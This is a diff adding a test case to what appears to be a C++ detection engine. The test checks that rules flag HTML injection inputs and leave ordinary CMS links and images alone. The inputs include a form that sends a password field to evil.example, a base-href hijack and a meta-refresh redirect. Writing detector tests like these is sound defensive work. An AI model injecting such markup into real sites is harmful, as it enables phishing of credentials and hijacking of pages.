@@ -378,3 +378,19 @@ TEST_CASE("8503: pickled Python calling a command, raw or base64") {
   CHECK(!Has(cookie("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig"), 8503));  // a JWT
   CHECK(!Has(cookie("cos\ncosine values"), 8503));
 }
+
+TEST_CASE("2004 is for tags and attributes that act; content tags with a link or image are 2008 (severity 3)") {
+  CheckCaught({{2004, "<form action=https://evil.example/login><input name=pw>"},
+               {2004, "<base href=//evil.example/>"},
+               {2004, "<meta http-equiv=refresh content=\"0;url=//evil.example\">"},
+               {2004, "<button formaction=//evil.example>go</button>"},
+               {2004, "<img dynsrc=\"x\">"},
+               {2004, "<table background=\"//evil.example/x.png\">"},
+               {2008, "<a href=\"//evil.example\">Click</a>"},
+               {2008, "<img src='//evil.example/?"}});
+  // What a CMS or a rich-text editor posts: a link, an image.
+  CheckNotMatched({"<p>See the <a href=\"https://docs.example.com/cli\" target=\"_blank\">CLI reference</a>.</p>",
+                   "<img src=\"https://cdn.example.com/hero@2x.jpg\" alt=\"Beach chairs\" width=\"1200\">"},
+                  {2004});
+  CHECK(Has(Matching("<a href=\"https://docs.example.com/cli\">docs</a>"), 2008));
+}
